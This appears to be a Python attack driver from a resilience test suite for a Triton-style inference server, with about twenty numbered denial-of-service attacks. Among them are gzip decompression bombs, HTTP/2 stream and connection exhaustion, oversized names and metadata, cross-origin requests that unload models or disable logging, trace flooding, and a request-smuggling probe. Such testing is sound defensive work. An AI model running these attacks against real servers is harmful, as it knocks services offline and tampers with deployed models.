"""What one attacker does, as a program: ``python -m attack.attackers ROW SOURCE HTTP GRPC STREAMS LARGEST``.

``STREAMS`` is the port of tensor streams, 0 for none, and ``LARGEST`` the largest message that the server takes, in
bytes. It prints a line of JSON when it holds what it is to hold, and goes on or holds on until its input ends.
"""

import contextlib
import json
import resource
import socket
import struct
import sys
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass
from functools import cached_property

import grpc
import numpy as np
from tritonclient.grpc import service_pb2 as pb
from tritonclient.grpc.service_pb2_grpc import GRPCInferenceServiceStub

from attack.peers import EndedError, Http2, call_fields, framed, gzipped, http, http_head, zeros
from calls import request, simple_inputs
from slow_peers import PREFACE, SETTINGS, frame

SERVICE = "/inference.GRPCInferenceService/"
LEAST_SECONDS = 8
"""A flood goes on for so long at least, so that what others feel can be told."""


@dataclass
class Attacker:
    source: str
    http_port: int
    grpc_port: int
    stream_port: int
    largest: int

    def __post_init__(self) -> None:
        self.over = threading.Event()
        self.seen: dict[str, int] = {}
        self.connections: list[Http2] = []

    def connection(self, **options: int) -> Http2:
        opened = Http2(self.grpc_port, self.source, **options)
        self.connections.append(opened)
        return opened

    def count(self, what: str, more: int = 1) -> None:
        self.seen[what] = self.seen.get(what, 0) + more

    @cached_property
    def bomb(self) -> bytes:
        """A request in gzip, nearly as large as may be once inflated."""
        head = request("simple", simple_inputs())
        del head.raw_input_contents[:]
        size = self.largest - (1 << 20)
        start = head.SerializeToString() + b"\x3a" + varint(size)
        return framed(gzipped([start, *zeros(size)]), compressed=True)

    def gzip_calls(self) -> None:
        """Row 1: inflated messages of calls that never end."""
        for _ in range(2):
            held = self.connection()
            for _ in range(12):
                held.write(held.open(call_fields(SERVICE + "ModelInfer", "gzip")), self.bomb)
                self.count("calls")

    def failed_turns(self) -> None:
        """Row 2: turns that are refused, of a client that reads no answer."""
        wrong = request("simple", {"INPUT0": np.zeros((2, 3), np.int32)})
        wrong.raw_input_contents[0] = bytes(min(4 << 20, self.largest // 2))
        message = framed(gzipped([wrong.SerializeToString()]), compressed=True)
        held = self.connection(window=0)
        stream = held.open(call_fields(SERVICE + "ModelStreamInfer", "gzip"))
        for _ in range(1020):
            held.write(stream, message)
            self.count("turns")

    def failed_large_turns(self) -> None:
        """Row 2p: the same, as they are."""
        wrong = request("simple", {"INPUT0": np.zeros((2, 3), np.int32)})
        wrong.raw_input_contents[0] = bytes(min(4 << 20, self.largest // 2))
        message = framed(wrong.SerializeToString())
        held = self.connection(window=0)
        stream = held.open(call_fields(SERVICE + "ModelStreamInfer"))
        for _ in range(700):
            held.write(stream, message)
            self.count("turns")

    def empty_messages(self) -> None:
        """Row 3: as many unread turns as are taken, and behind them messages of nothing."""
        turn = framed(request("simple", simple_inputs()).SerializeToString())
        nothing = framed(b"") * 2000
        for _ in range(28):
            held = self.connection(window=0)
            stream = held.open(call_fields(SERVICE + "ModelStreamInfer"))
            with contextlib.suppress(EndedError):
                held.write(stream, turn * 1024)
                self.count("turns", 1024)
                while not held.ended:
                    held.write(stream, nothing, patience=0.5)
                    self.count("empty", 2000)

    def inflating(self) -> None:
        """Row 5: one after the other, on two connections."""

        def repeat() -> None:
            while not self.over.is_set():
                with contextlib.suppress(EndedError, OSError):
                    held = self.connection()
                    while not self.over.is_set():
                        stream = held.open(call_fields(SERVICE + "ModelInfer", "gzip"), None)
                        held.write(stream, self.bomb, last=True)
                        held.await_answers(0, 30)
                        self.count("calls")

        self.bomb  # noqa: B018 - made before the clock runs
        for _ in range(2):
            threading.Thread(target=repeat, daemon=True).start()
        self.over.wait(LEAST_SECONDS)

    def large_metadata(self) -> None:
        """Row 6: idle calls that each have as much metadata as is taken, in a few bytes."""
        extra = [("x", "m" * 3700)] * 2
        self._idle_calls(10, call_fields(SERVICE + "ModelInfer", "", extra))

    def idle_streams(self) -> None:
        """Row 10: nothing but streams."""
        self._idle_calls(13, call_fields(SERVICE + "ModelStreamInfer"))

    def _idle_calls(self, connections: int, fields: list[tuple[str, str]]) -> None:
        for _ in range(connections):
            with contextlib.suppress(EndedError, OSError):
                held = self.connection()
                for _ in range(min(4096, held.most_streams)):
                    held.open(fields)
                    self.count("calls")

    def long_names(self) -> None:
        """Row 7: refusals that name what was asked for, read by nobody."""
        message = pb.ModelInferRequest(model_name="n" * (64 << 10))
        body = framed(gzipped([message.SerializeToString()]), compressed=True)
        fields = call_fields(SERVICE + "ModelInfer", "gzip")
        for _ in range(20):
            with contextlib.suppress(EndedError, OSError):
                held = self.connection(deaf=True)
                for _ in range(2500):
                    held.open(fields, body)
                    self.count("calls")

    def long_sequences(self) -> None:
        """Row 8: sequences that are known by a megabyte each."""
        held = self.connection()
        for number in range(5000):
            message = request("sums", {"INPUT": np.ones((1, 1), np.int32)})
            message.parameters["sequence_id"].string_param = f"{number}-" + "s" * (1 << 20)
            message.parameters["sequence_start"].bool_param = True
            body = framed(gzipped([message.SerializeToString()]), compressed=True)
            held.write(held.open(call_fields(SERVICE + "ModelInfer", "gzip")), body, last=True)
            held.await_answers(8, 30)
            self.count("sequences")

    def long_regions(self) -> None:
        """Row 9: regions that are known by a megabyte each."""
        held = self.connection()
        for number in range(60):
            message = pb.SystemSharedMemoryRegisterRequest(
                name=f"{number}-" + "r" * (1 << 20), key="/roundhouse-attack", byte_size=64
            )
            body = framed(gzipped([message.SerializeToString()]), compressed=True)
            held.write(held.open(call_fields(SERVICE + "SystemSharedMemoryRegister", "gzip")), body, last=True)
            held.await_answers(0, 30)
            self.count("regions")

    def many_properties(self) -> None:
        """Row 11: a JSON object of nothing but names, twice."""
        names = min(30_000_000, self.largest // 14)
        step = 100_000
        parts = (
            ",".join(f'"{name:08d}":0' for name in range(at, min(at + step, names))).encode() + b","
            for at in range(0, names, step)
        )
        body = gzipped([b'{"parameters":{', *parts, b'"last":0},"inputs":[]}'])
        head = http_head(
            "POST",
            "/v2/models/simple/infer",
            len(body),
            {"Content-Encoding": "gzip", "Content-Type": "application/json"}.items(),
        )

        def post() -> None:
            status = http(self.http_port, self.source, head + body, 120)
            self.count(f"status {status or 'none'}")

        self.count("names", names)
        threads = [threading.Thread(target=post, daemon=True) for _ in range(2)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join(60)

    def foreign_pages(self) -> None:
        """Row 12: what a page of somebody else's can have a browser send."""
        infer = json.dumps(
            {
                "inputs": [
                    {"name": f"INPUT{i}", "datatype": "INT32", "shape": [1, 16], "data": [1] * 16} for i in range(2)
                ]
            }
        )
        acts = {
            "/v2/models/simple/infer": infer,
            "/v2/systemsharedmemory/unregister": "",
            "/v2/repository/models/simple/unload": "{}",
            "/v2/logging": '{"log_info": false}',
        }
        for fields in ({"Origin": "http://elsewhere.example"}, {"Host": "elsewhere.example"}):
            for path, body in acts.items():
                head = http_head("POST", path, len(body), (fields | {"Content-Type": "text/plain"}).items())
                status = http(self.http_port, self.source, head + body.encode())
                self.count("accepted" if status == "200" else "refused")
        # what was turned off is turned on again, so that later rows have a log
        head = http_head("POST", "/v2/logging", 18, {"Content-Type": "application/json"}.items())
        http(self.http_port, self.source, head + b'{"log_info": true}')

    def traces(self) -> None:
        """Row 16: a file for each request."""
        body = b'{"trace_rate":"1","log_frequency":"1","trace_level":["TIMESTAMPS"],"trace_count":"-1"}'
        head = http_head("POST", "/v2/trace/setting", len(body), {"Content-Type": "application/json"}.items())
        self.count(f"setting {http(self.http_port, self.source, head + body)}")
        held = self.connection()
        message = framed(request("simple", simple_inputs()).SerializeToString())
        fields = call_fields(SERVICE + "ModelInfer")
        end = time.monotonic() + LEAST_SECONDS
        while time.monotonic() < end:
            held.open(fields, message)
            held.await_answers(32, 10)
            self.count("calls")

    def short_deadlines(self) -> None:
        """Row 17: 24 callers that wait for 3 to 20 ms."""
        stop = time.monotonic() + 20

        def repeat(caller: int) -> None:
            with grpc.insecure_channel(
                f"127.0.0.1:{self.grpc_port}", [("grpc.use_local_subchannel_pool", 1)]
            ) as channel:
                stub = GRPCInferenceServiceStub(channel)
                number = 0
                while time.monotonic() < stop:
                    number += 1
                    try:
                        stub.ModelInfer(
                            request("simple", simple_inputs()), timeout=0.003 + 0.017 * (number * 7 % 24) / 24
                        )
                        self.count("OK")
                    except grpc.RpcError as e:
                        self.count(e.code().name)

        threads = [threading.Thread(target=repeat, args=(caller,), daemon=True) for caller in range(24)]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()

    def zero_names(self) -> None:
        """Row 18n: a name that no file can have."""
        held = self.connection()
        for kind, message in {
            "ModelInfer": pb.ModelInferRequest(model_name="a\0b"),
            "ModelMetadata": pb.ModelMetadataRequest(name="a\0b"),
            "ModelReady": pb.ModelReadyRequest(name="a\0b"),
            "RepositoryModelLoad": pb.RepositoryModelLoadRequest(model_name="a\0b"),
        }.items():
            held.open(call_fields(SERVICE + kind), framed(message.SerializeToString()))
            self.count("calls")
        for path in ("/v2/models/a%00b", "/v2/models/a%00b/infer"):
            http(self.http_port, self.source, http_head("POST", path, 0))
        held.await_answers(0, 10)

    def idle_connections(self) -> None:
        """Row 18c: 700 at each port, more than the server has file descriptors."""
        self._hold_open(700, self.grpc_port, b"")
        self._hold_open(700, self.http_port, b"")

    def many_idle_connections(self) -> None:
        """Row 18i: 10,000 that have said what a connection of HTTP/2 begins with, and nothing since."""
        self._hold_open(10_000, self.grpc_port, PREFACE + frame(SETTINGS, 0, 0, b""))

    def idle_tensor_streams(self) -> None:
        """Row 18t: 10,000 tensor streams that have said hello, and nothing since."""
        self._hold_open(10_000, self.stream_port, stream_hello("simple", window=256))

    def _hold_open(self, count: int, port: int, data: bytes) -> None:
        self.sockets = getattr(self, "sockets", [])
        for _ in range(count):
            with contextlib.suppress(OSError):
                opened = socket.create_connection(("127.0.0.1", port), 1, (self.source, 0))
                self.sockets.append(opened)
                opened.sendall(data)
                self.count("connections")

    def two_lengths(self) -> None:
        """Row 18l: which of them holds is what a proxy and a server may see differently."""
        body = b"4\r\nabcd\r\n0\r\n\r\n"
        head = http_head("POST", "/v2/models/simple/infer", len(body), {"Transfer-Encoding": "chunked"}.items())
        self.count(f"status {http(self.http_port, self.source, head + body)}")


def stream_hello(model: str, window: int) -> bytes:
    name = model.encode()
    length = -(-(48 + len(name)) // 8) * 8
    head = struct.pack("<4sBBHIIIHHQ6HI", b"TSRM", 1, 1, 0, length, window, 0, 0, 0, 0, len(name), 0, 0, 0, 0, 0, 0)
    return (head + name).ljust(length, b"\0")


def varint(value: int) -> bytes:
    return bytes([value & 127 | 128]) + varint(value >> 7) if value > 127 else bytes([value])


ACTS: dict[str, Callable[[Attacker], None]] = {
    "1": Attacker.gzip_calls,
    "2": Attacker.failed_turns,
    "2p": Attacker.failed_large_turns,
    "3": Attacker.empty_messages,
    "5": Attacker.inflating,
    "6": Attacker.large_metadata,
    "7": Attacker.long_names,
    "8": Attacker.long_sequences,
    "9": Attacker.long_regions,
    "10": Attacker.idle_streams,
    "11": Attacker.many_properties,
    "12": Attacker.foreign_pages,
    "16": Attacker.traces,
    "17": Attacker.short_deadlines,
    "18n": Attacker.zero_names,
    "18c": Attacker.idle_connections,
    "18i": Attacker.many_idle_connections,
    "18t": Attacker.idle_tensor_streams,
    "18l": Attacker.two_lengths,
}


def main() -> None:
    row, source, *numbers = sys.argv[1:7]
    most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    attacker = Attacker(source, *map(int, numbers))
    try:
        ACTS[row](attacker)
    except (EndedError, OSError) as e:
        attacker.seen["stopped: " + str(e)[:60]] = 1
    attacker.seen["wire bytes"] = sum(each.sent for each in attacker.connections)
    attacker.seen["connections ended"] = sum(each.ended for each in attacker.connections)
    attacker.seen["resets"] = sum(each.resets for each in attacker.connections)
    print(json.dumps(attacker.seen), flush=True)
    sys.stdin.read()
    attacker.over.set()


if __name__ == "__main__":
    main()
